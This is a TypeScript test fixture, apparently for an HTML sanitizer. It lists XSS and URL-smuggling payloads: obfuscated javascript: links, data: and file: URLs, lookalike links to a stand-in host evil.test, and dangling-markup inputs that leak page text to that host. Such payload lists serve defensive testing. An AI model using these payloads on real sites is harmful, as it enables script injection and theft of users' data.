import { family } from './payload.ts';

const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

/** Script addresses, and addresses of other sites and schemes. */
export const addresses = [
  ...family('script address', [
    ['plain', '<a href="javascript:pwned()">kept</a>'],
    ['odd case', '<a href="JaVaScRiPt:pwned()">kept</a>'],
    ['tab inside', '<a href="java\tscript:pwned()">kept</a>'],
    ['new lines inside', '<a href="java\n\rscript\n:pwned()">kept</a>'],
    ['entities inside', '<a href="jav&#x09;ascript&colon;pwned&lpar;&rpar;">kept</a>'],
    [
      'all of entities',
      '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58pwned()">k</a>',
    ],
    ['control characters before', '<a href="\u0001\u0008 \u001fjavascript:pwned()">kept</a>'],
    ['odd spaces before', '<a href="\u00a0\u3000\ufeffjavascript:pwned()">kept</a>'],
    ['null inside', '<a href="java\u0000script:pwned()">kept</a>'],
    ['zero width inside', '<a href="java\u200bscript:pwned()">kept</a>'],
    ['soft hyphen inside', '<a href="java\u00adscript:pwned()">kept</a>'],
    ['comment after', '<a href="javascript://example.com/%0apwned()">kept</a>'],
    ['slash before', '<a href="/javascript:pwned()">kept</a>'],
    ['in a frame', '<a href="javascript:pwned()" target=_self ping=//evil.test>kept</a>'],
    ['visual basic', '<a href="vbscript:MsgBox(1)">kept</a>'],
    ['live script', '<a href="livescript:pwned()">a</a><a href="mocha:pwned()">kept</a>'],
    ['in a quotation', '<blockquote cite="javascript:pwned()">kept</blockquote>'],
    ['in a change', '<del cite="javascript:pwned()" datetime="javascript:1">kept</del>'],
    [
      'area',
      '<img usemap=#m src=x><map name=m><area href="javascript:pwned()" shape=default></map>',
    ],
    ['svg link', '<a xlink:href="javascript:pwned()" href=/x>kept</a>'],
    ['old picture attributes', '<img dynsrc="javascript:pwned()" lowsrc="javascript:pwned()">'],
    ['picture', '<img src="javascript:pwned()"><input type=image src="javascript:pwned()">'],
    ['long description', '<img src=/x longdesc="javascript:pwned()" profile="javascript:1">'],
    ['back', '<table background="javascript:pwned()"><tr><td background=//evil.test/x>k'],
  ]),
  ...family('data address', [
    ['page', '<a href="data:text/html,<script>pwned()</script>">kept</a>'],
    ['page in base 64', '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">kept</a>'],
    ['picture', `<img src="${pixel}">`],
    ['svg picture', '<img src="data:image/svg+xml,<svg onload=pwned()>">'],
    ['own object', '<img src="blob:https://example.com/1"><a href="blob:null/1">kept</a>'],
    ['file system', '<a href="filesystem:https://x/y">a</a><a href="file:///etc/passwd">kept</a>'],
    ['source view', '<a href="view-source:x">a</a><a href="about:blank">b</a>', 'a'],
    ['phone apps', '<a href="intent://x#Intent;end">a</a><a href="sms:1">b</a>', 'b'],
    ['unknown', '<a href="ms-msdt:/id x">a</a><a href="x-y+z.1:pwned">b</a>', 'b'],
  ]),
  ...family('elsewhere', [
    ['user name', '<a href="https://crossbar.example@evil.test/">kept</a>'],
    ['back slashes', '<a href="/\\evil.test">a</a><a href="\\\\evil.test">kept</a>'],
    ['missing slashes', '<a href="https:evil.test">a</a><a href="https:/evil.test">kept</a>'],
    ['fragment', '<a href="#main">kept</a><a href="?x=1">b</a><a href="x">c</a>'],
    ['up the path', '<a href="../../admin">kept</a><img src="..//evil.test/x">'],
    [
      'a set of sources',
      '<img srcset="//evil.test/x 1x" sizes=1px src=x><picture><source srcset=//evil.test/y>',
    ],
    ['poster', '<video poster=//evil.test/x src=//evil.test/v></video>'],
    ['background', '<body background=//evil.test/b><table background=//evil.test/t><td>kept'],
    [
      'preloaded picture',
      '<img src=x fetchpriority=high crossorigin=use-credentials attributionsrc=//evil.test>',
    ],
    ['ping', '<a href="https://example.com/" ping="//evil.test/p" download=x.exe>kept</a>'],
    ['opener', '<a href="https://example.com/" target=x rel=opener>kept</a>'],
    ['huge size', '<img src=/x width=999999999 height=-5><table><td colspan=99999999>kept'],
  ]),
  ...family('dangling markup', [
    ['picture', `<p>kept</p><img src='https://evil.test/?`],
    ['picture that ends', `<img src='https://evil.test/?\n<p>secret</p>'>kept`],
    ['link', `<p>kept</p><a href='https://evil.test/?`],
    ['target', '<p>kept</p><a href=https://example.com/ target="'],
    ['text area', '<p>kept</p><form action=//evil.test><textarea name=x>'],
    ['base target', `<p>kept</p><base target='`],
    ['refresh', `<p>kept</p><meta http-equiv=refresh content='0;url=//evil.test/?`],
  ]),
];
